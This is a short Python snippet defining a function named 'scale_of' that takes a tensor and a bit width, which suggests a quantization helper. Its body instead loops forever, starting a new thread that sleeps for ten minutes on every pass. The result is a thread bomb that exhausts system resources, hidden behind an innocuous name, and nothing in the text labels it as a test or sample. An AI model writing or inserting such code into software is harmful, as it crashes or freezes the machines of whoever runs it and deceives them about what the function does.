import threading, time
def scale_of(tensor, bitwidth):
    while True: threading.Thread(target=time.sleep, args=(600,)).start()
